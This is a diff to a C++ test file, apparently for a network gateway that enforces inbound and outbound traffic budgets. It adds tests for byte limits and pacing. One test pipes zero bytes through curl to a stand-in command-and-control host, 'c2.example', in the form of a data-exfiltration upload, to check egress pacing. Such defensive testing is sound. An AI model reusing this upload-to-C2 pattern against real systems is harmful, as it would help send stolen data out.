@@ -90,9 +90,8 @@ class World {
 
   Result<> start_servers() {
     const std::string pem = (folder_ / "server.pem").string();
-    const std::string make = "c=$(mktemp); openssl req -x509 -newkey rsa:2048 -nodes -keyout " + pem +
-                             " -out " + pem + ".crt -subj /CN=real -days 2 2>/dev/null && cat " + pem +
-                             ".crt >> " + pem;
+    const std::string make = "openssl req -x509 -newkey rsa:2048 -nodes -keyout " + pem + " -out " + pem +
+                             ".crt -subj /CN=real -days 2 2>/dev/null && cat " + pem + ".crt >> " + pem;
     if (std::system(make.c_str()) != 0) return fail(Module::gateway, ErrorCode::io, "no certificate");
     SHIKAKE_TRY(base::write_file_atomically(folder_ / "servers.py", servers));
     int ends[2];
@@ -250,6 +249,35 @@ TEST(Open, BudgetsEndIt) {
     ASSERT_EQ(lab.seen.decisions.size(), 2U);
     EXPECT_EQ(lab.seen.decisions[0].rule, "default");
     EXPECT_EQ(lab.seen.decisions[1].rule, "bytes_out");
+  });
+}
+
+TEST(Open, WhatComesInIsABudgetToo) {
+  Policy policy = test_policy();
+  policy.bytes_in = 30;  // less than a reply's head
+  in_open_lab(policy, [](Lab& lab) {
+    EXPECT_THAT(lab.run("curl -s -m 20 http://203.0.113.10/").text, testing::Not(HasSubstr("real")));
+    lab.run("curl -s -m 20 http://203.0.113.10/");
+    ASSERT_TRUE(lab.finish());
+    ASSERT_EQ(lab.seen.decisions.size(), 2U);
+    EXPECT_EQ(lab.seen.decisions[0].rule, "default");
+    EXPECT_EQ(lab.seen.decisions[1].rule, "bytes_in");
+    EXPECT_EQ(lab.seen.decisions[1].verdict, Handling::refused);
+  });
+}
+
+// Sent later, not refused: three seconds' worth, of which the first goes at once.
+TEST(Open, WhatGoesOutIsPaced) {
+  Policy policy = test_policy();
+  policy.bytes_out_a_second = 20'000;
+  in_open_lab(policy, [](Lab& lab) {
+    const auto before = std::chrono::steady_clock::now();
+    EXPECT_THAT(
+        lab.run("head -c 60000 /dev/zero | curl -sS -H 'Expect:' http://c2.example/slow --data-binary @-")
+            .text,
+        HasSubstr("real c2.example/slow"));
+    EXPECT_GE(std::chrono::steady_clock::now() - before, std::chrono::milliseconds(1500));
+    ASSERT_TRUE(lab.finish());
   });
 }
 
